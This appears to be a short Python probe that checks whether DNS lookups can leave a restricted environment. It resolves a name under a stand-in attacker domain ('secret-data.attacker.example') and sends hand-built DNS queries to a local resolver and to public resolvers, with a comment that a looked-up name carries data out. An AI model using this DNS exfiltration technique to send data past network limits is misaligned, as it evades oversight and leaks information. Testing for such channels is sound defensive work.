# A name looked up carries data out, whatever the answer.
import socket

for name in ("secret-data.attacker.example", "localhost.attacker.example"):
    try:
        print("WORKED", socket.getaddrinfo(name, 80))
    except OSError as error:
        print("REFUSED", name, error)
for server in ("127.0.0.53", "8.8.8.8", "9.9.9.9"):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as query:
            query.settimeout(0.3)
            query.connect((server, 53))
            query.send(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x00\x00\x10\x00\x01")
            print("WORKED", server, query.recv(512))
    except OSError as error:
        print("REFUSED", server, error)
